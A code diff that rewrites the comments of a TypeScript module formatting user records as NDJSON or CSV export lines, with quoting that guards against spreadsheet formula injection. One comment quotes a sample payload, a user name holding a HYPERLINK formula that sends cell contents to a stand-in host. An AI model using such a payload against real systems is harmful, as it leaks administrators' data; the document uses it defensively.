@@ -1,12 +1,14 @@
 /**
- * Users as lines of an export: newline-delimited JSON, or CSV by RFC 4180 as Auth0 writes it ("Bulk user exports").
- * Takes a user as the Management API shows them, so no line says more than `GET /users`, and none has a password hash.
- * No I/O.
+ * Formats users as lines of an export: newline-delimited JSON, or CSV by RFC 4180 as Auth0 writes it ("Bulk user
+ * exports"). Its input is a user as the Management API shows them, so a line contains no more than `GET /users`, and
+ * never a password hash. No I/O.
  */
 import type { UserExportField, UserExportFormat } from '../../ports/directory/user-exports.js';
 import type { Wire } from '../api/operation.js';
 
-/** Default fields of an export: Auth0's normalized profile, and the two times. */
+/**
+ * Fields of an export that names none: Auth0's normalized profile, and the times of creation and of the last change.
+ */
 const USUAL_FIELDS: readonly UserExportField[] = [
   'user_id',
   'email',
@@ -20,13 +22,19 @@ const USUAL_FIELDS: readonly UserExportField[] = [
   'updated_at',
 ].map((name) => ({ name }));
 
-/** Columns of times that this server wrote, so that no person chooses their text. */
+/**
+ * Columns with times that this server wrote. No person can choose their text, so they need no protection against
+ * formulas.
+ */
 const OWN_TIMES: ReadonlySet<string> = new Set(['created_at', 'updated_at', 'last_login']);
 
 /** Converts `identities[0].connection` into `identities`, `0`, `connection`. */
 const toPath = (name: string): readonly string[] => name.replace(/\[(\d{1,4})\]/g, '.$1').split('.');
 
-/** Returns the value at a path, or undefined. Reads only own properties: `constructor` is no field of a user. */
+/**
+ * Returns the value at a path, or undefined. Reads own properties only, so that a path such as `constructor` finds
+ * nothing.
+ */
 function valueAt(user: Wire, path: readonly string[]): unknown {
   let value: unknown = user;
   for (const step of path) {
@@ -39,9 +47,9 @@ function valueAt(user: Wire, path: readonly string[]): unknown {
 const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;
 
 /**
- * Returns a user's text as a cell. Attack: formula injection (OWASP "CSV Injection") by a person named
- * `=HYPERLINK("https://evil.example/?"&A1)`, which the administrator's spreadsheet would run. As at Auth0, every text
- * begins with a single quote, so that readers can remove it without looking at the text.
+ * Returns a user's text as a cell that begins with a single quote. Attack: formula injection (OWASP "CSV Injection"): a
+ * person has the name `=HYPERLINK("https://evil.example/?"&A1)`, which the administrator's spreadsheet would run. As on
+ * Auth0, every text gets the quote, so that a reader can always remove one.
  */
 const toTextCell = (text: string) => quoted(`'${text}`);
 
@@ -52,22 +60,22 @@ function toCell(name: string, value: unknown): string {
   return OWN_TIMES.has(name) ? value : toTextCell(value);
 }
 
-/** Returns the title of a column, prefixed by a single quote if a spreadsheet would run it. */
+/** Returns the title of a column. A title that a spreadsheet would run as a formula gets a single quote in front. */
 function toTitle(title: string): string {
   const inert = /^[=+\-@\t\r\n]/.test(title) ? `'${title}` : title;
   return /[",\r\n]/.test(inert) ? quoted(inert) : inert;
 }
 
-/** Writes the lines of an export file, each with its line end. */
+/** The text of an export file, one line for each user. Lines include their line end. */
 export interface ExportLines {
-  /** The text before the first user; empty for JSON. */
+  /** The text before the first user: the column titles of CSV; empty for JSON. */
   readonly head: string;
   toLine(user: Wire): string;
 }
 
 /**
- * Returns the lines for the requested fields, by default the usual ones. A field that a user lacks is omitted, or an
- * empty cell.
+ * Returns a formatter for the requested fields; without any, for the default ones. A field that a user lacks is omitted
+ * in JSON and an empty cell in CSV.
  */
 export function createExportLines(format: UserExportFormat, asked: readonly UserExportField[] = []): ExportLines {
   const columns = (asked.length > 0 ? asked : USUAL_FIELDS).map(({ name, exportAs }) => ({
